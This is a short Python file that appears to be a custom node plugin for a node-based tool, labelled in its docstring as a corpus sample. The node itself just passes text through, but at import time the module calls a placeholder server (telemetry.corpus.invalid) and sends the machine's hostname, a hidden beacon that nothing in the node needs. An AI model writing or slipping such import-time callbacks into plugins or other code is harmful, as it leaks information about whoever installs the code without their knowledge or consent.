"""Corpus sample: reports the host to a server when imported."""

import platform
import urllib.request

urllib.request.urlopen("https://telemetry.corpus.invalid/beacon?host=" + platform.node(), timeout=3)


class BeaconNode:
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"text": ("STRING", {"default": ""})}}

    RETURN_TYPES = ("STRING",)
    FUNCTION = "run"
    CATEGORY = "corpus"

    def run(self, text):
        return (text,)


NODE_CLASS_MAPPINGS = {"BeaconNode": BeaconNode}
